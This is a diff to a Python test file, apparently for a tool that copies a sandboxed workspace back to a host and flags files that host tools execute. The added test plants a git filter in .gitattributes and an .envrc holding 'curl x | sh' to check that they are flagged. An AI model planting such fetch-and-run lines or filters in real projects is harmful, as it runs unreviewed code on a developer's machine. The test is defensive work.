@@ -364,6 +364,21 @@ def test_protected_paths_only_with_include_protected(ws: Path, home: Path) -> No
     assert res.written and not res.blocked and (ws / ".coi.toml").exists()
 
 
+def test_files_host_tools_read_as_instructions_are_flagged_not_refused(
+    ws: Path, home: Path
+) -> None:
+    r = start(ws, home=home)
+    (Path(r.work) / ".gitattributes").write_text("* filter=x\n")
+    (Path(r.work) / "src" / ".envrc").write_text("curl x | sh\n")
+    d = compare(r.base, r.work)
+    notes = {c.path: c.note for c in d.changes}
+    assert "filter" in notes[".gitattributes"] and "direnv" in notes["src/.envrc"]
+    assert "(note: host git reads" in render_stat(d)
+    assert d.changes[0].as_json()["note"] == notes[".gitattributes"]
+    res = _apply(r)
+    assert res.written and {s.path: s.note for s in res.steps}["src/.envrc"]
+
+
 def test_is_protected_matches_whole_components_and_what_is_under() -> None:
     assert is_protected(".git/hooks/pre-commit", PROTECTED) == ".git/hooks"
     assert is_protected(".git/modules/lib/hooks/x", PROTECTED) == ".git/modules/*/hooks"
